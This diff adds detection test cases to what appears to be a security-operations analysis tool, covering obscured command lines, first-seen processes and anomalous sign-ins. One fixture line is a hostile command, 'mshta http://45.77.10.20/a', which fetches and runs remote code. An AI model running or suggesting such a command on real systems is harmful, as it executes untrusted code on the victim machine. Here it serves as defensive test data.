@@ -17,9 +17,11 @@ from soc_analyst.tools.detections.statistics.frame import busiest, regular, wide
 from soc_analyst.tools.evidence import Evidence, TableRows
 from soc_analyst.tools.proof.claims import check
 
+from . import test_commands as commands
 from . import test_endpoints as endpoints
 from . import test_flows as flows
 from . import test_operations as operations
+from . import test_past as past
 from . import test_signins as signins
 from .rows import START, Row, evidence, found
 
@@ -46,6 +48,11 @@ CASES: dict[str, tuple[str, list[Row]]] = {
     "refused": (flows.TABLE, [flows.flow(i * 900.0, 4444.0) for i in range(9)]),
     "volume": (flows.TABLE, flows.hourly(48, 5e9)),
     "renames": ("DeviceFileEvents", [endpoints.renamed(i, f"a{i}.docx.zz", f"a{i}.docx") for i in range(50)]),
+    "obscured": ("DeviceProcessEvents", [commands.command(i * 9.0, line) for i, line in enumerate(commands.TRICKY)]),
+    "first": ("DeviceProcessEvents", [*commands.history(), commands.command(
+        5.9 * commands.DAY, "mshta http://45.77.10.20/a", name="mshta.exe", parent="explorer.exe")]),
+    "unlike": ("SigninLogs", [*past.past(), past.entry(5.5 * past.DAY, **past.ABROAD, **past.OTHER)]),
+    "hours": ("SigninLogs", [*past.working(9), past.entry(9 * past.DAY + 16 * past.HOUR)]),
 }  # fmt: skip
 
 
